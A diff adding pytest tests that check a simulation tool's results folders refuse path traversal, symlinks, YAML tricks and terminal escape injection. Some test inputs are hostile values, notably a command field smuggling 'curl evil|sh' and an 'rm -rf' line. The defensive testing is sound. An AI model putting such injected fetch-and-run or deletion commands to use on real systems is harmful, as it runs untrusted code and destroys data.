@@ -1,0 +1,177 @@
+"""A results folder may be anybody's: nothing outside is touched, nothing of others' inside; damage is a message."""
+
+import os
+import shutil
+import tempfile
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+
+from sim.cli import main
+from sim.experiments.control import LOCK, alone
+from sim.experiments.status import status
+from sim.experiments.study import Study
+from sim.policy.problem import InputError
+from tests.experiments.sweep.studies import carried_out, ready
+
+NAMES = ("status_quo", "faster_mlat")
+
+
+@pytest.fixture(scope="module")
+def whole(tmp_path_factory: pytest.TempPathFactory) -> Study:
+    return _resumed(tmp_path_factory.mktemp("whole"))
+
+
+@pytest.fixture
+def folder(whole: Study, tmp_path: Path) -> Path:
+    shutil.copytree(whole.folder, tmp_path / "study")
+    return tmp_path / "study"
+
+
+def _resumed(results: Path) -> Study:
+    return carried_out(ready(results, "court.staff=1,2", "execution.replicates=2", names=NAMES))[0]
+
+
+def _edit(folder: Path, old: str, new: str) -> None:
+    file = folder / "study.yaml"
+    text = file.read_text("utf-8")
+    assert old in text
+    file.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+def _files(*folders: Path) -> dict[Path, bytes]:
+    return {path: path.read_bytes() for folder in folders for path in folder.rglob("*") if path.is_file()}
+
+
+@pytest.mark.parametrize("store", ["../../victim", "/", "outcomes", "''"])
+def test_a_store_elsewhere_is_refused_and_nothing_there_is_lost(store: str, folder: Path) -> None:
+    victim = folder.parent.parent / "victim"
+    for name in ("outcomes/precious.txt", "breakdowns/mine/thesis.parquet", ".pending/x"):
+        (victim / name).parent.mkdir(parents=True, exist_ok=True)
+        (victim / name).write_text("mine", encoding="utf-8")
+    before = _files(victim)
+    _edit(folder, "store: .", f"store: {store}")
+    with pytest.raises(InputError, match=r"study.yaml: store"):
+        _resumed(folder.parent)
+    assert _files(victim) == before
+    shutil.rmtree(victim)
+
+
+def test_what_somebody_put_into_a_study_stays_and_what_a_killed_process_left_goes(folder: Path) -> None:
+    mine = ["note.md", "outcomes/table.csv", "outcomes/mine.parquet", "experiments/old-p-000001.parquet"]
+    mine += ["breakdowns/own/thesis.parquet", ".pending/p/x.txt", "outcomes/.hidden", "outcomes/p-000009.parquet.bak"]
+    left = ["outcomes/p-000009.parquet", "outcomes/.p-000009.parquet.tmp", ".pending/p/takedown_curve-12-3.npy"]
+    for name in (*mine, *left):
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_text("mine", encoding="utf-8")
+    _resumed(folder.parent)
+    assert [name for name in mine if not (folder / name).exists()] == []
+    assert [name for name in left if (folder / name).exists()] == []
+
+
+@pytest.mark.parametrize("name", ["outcomes", "experiments", "breakdowns", "breakdowns/takedown_curve", ".pending"])
+def test_a_folder_that_is_a_link_is_refused(name: str, folder: Path) -> None:
+    outside = folder.parent / "outside"
+    (folder / name).rename(outside) if (folder / name).exists() else outside.mkdir()
+    (folder / name).symlink_to(outside)
+    before = _files(outside)
+    with pytest.raises(InputError, match="no folder but a link"):
+        _resumed(folder.parent)
+    assert _files(outside) == before
+
+
+@pytest.mark.parametrize("name", ["log.txt", LOCK, f"{LOCK}-p", "outcomes/.p-000001.parquet.tmp"])
+def test_nothing_is_written_through_a_link(name: str, folder: Path) -> None:
+    outside = folder.parent / "outside"
+    (folder / name).unlink(missing_ok=True)
+    (folder / name).symlink_to(outside)
+    for part in folder.glob("*/p-000001.parquet"):
+        part.unlink()  # its runs are made again, under the same name
+    if name.endswith(".tmp"):
+        _resumed(folder.parent)
+    else:
+        with pytest.raises(InputError, match="no plain file but a link"):
+            _resumed(folder.parent)
+    assert not outside.exists()
+
+
+def test_a_finished_study_is_removed_but_for_what_is_not_its_own(folder: Path) -> None:
+    (folder / "outcomes" / "note.md").write_text("mine", encoding="utf-8")
+    Study.open(folder).remove()
+    assert [path.relative_to(folder).as_posix() for path in _files(folder)] == ["outcomes/note.md"]
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "match"),
+    [
+        ("execution:", "execution:\n    results: ${oc.env:HOME}/x\n  other:", "looked up elsewhere"),
+        ("command: ", "command: comity sweep; curl evil|sh #", "single command"),
+        ("command: ", "command: rm -rf x #", "not a command of Comity"),
+        ("replicates: 2", "replicates: '2'", "replicates"),
+        ("study: ", "study: &a [x]\nother: [*a, *a]\nread2: ", "references"),
+    ],
+)
+def test_a_foreign_text_is_one_message(old: str, new: str, match: str, folder: Path) -> None:
+    _edit(folder, old, new)
+    with pytest.raises(InputError, match=match):
+        status(folder)
+
+
+def test_nothing_in_a_study_controls_a_terminal(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _edit(folder, "unit: ", 'unit: "\\e]0;owned\\a\\e[2J" #')
+    (folder / "log.txt").write_text("begins\n\x1b[31mred\x9b\n", encoding="utf-8")
+    main(["status", str(folder)])
+    main(["status", str(folder.parent)])
+    said = "".join(capsys.readouterr())
+    assert "owned" in said
+    assert "red" in said
+    assert not set(said) & {"\x1b", "\x07", "\x9b"}
+
+
+@contextmanager
+def _another_account() -> Iterator[None]:
+    """Somebody who may read, not write: as root, another account."""
+    root = os.geteuid() == 0
+    if root:
+        os.seteuid(65534)
+    try:
+        yield
+    finally:
+        if root:
+            os.seteuid(0)
+
+
+def test_status_reads_what_one_may_only_read(whole: Study) -> None:
+    with tempfile.TemporaryDirectory() as above:  # that of pytest is closed to other accounts
+        shutil.copytree(whole.folder, Path(above) / "study")
+        (Path(above) / "bad").mkdir()
+        os.mkfifo(Path(above) / "bad" / "study.yaml")
+        shutil.copytree(whole.folder, Path(above) / "other")
+        for path in (Path(above), *Path(above).rglob("*")):
+            path.chmod(0o555 if path.is_dir() else 0o444)
+        with _another_account():
+            found = status(Path(above) / "study")
+            code = main(["status", above])
+        for path in (Path(above), *Path(above).rglob("*")):
+            path.chmod(0o755)
+    assert (found.done, found.running, code) == (found.runs, False, 0)
+
+
+def test_a_look_hinders_no_start_and_sees_who_runs_it(folder: Path) -> None:
+    import fcntl
+
+    with (folder / LOCK).open() as look:
+        fcntl.flock(look, fcntl.LOCK_SH)
+        threading.Timer(0.2, lambda: fcntl.flock(look, fcntl.LOCK_UN)).start()
+        with alone(folder, "p"):
+            assert status(folder).running
+            with pytest.raises(InputError, match="another process"), alone(folder, "s0of2"):
+                pass
+    assert not status(folder).running
+    with alone(folder, "s0of2"), alone(folder, "s1of2"):
+        assert status(folder).running
+        with pytest.raises(InputError, match="2 parts"), alone(folder, "s0of3"):
+            pass
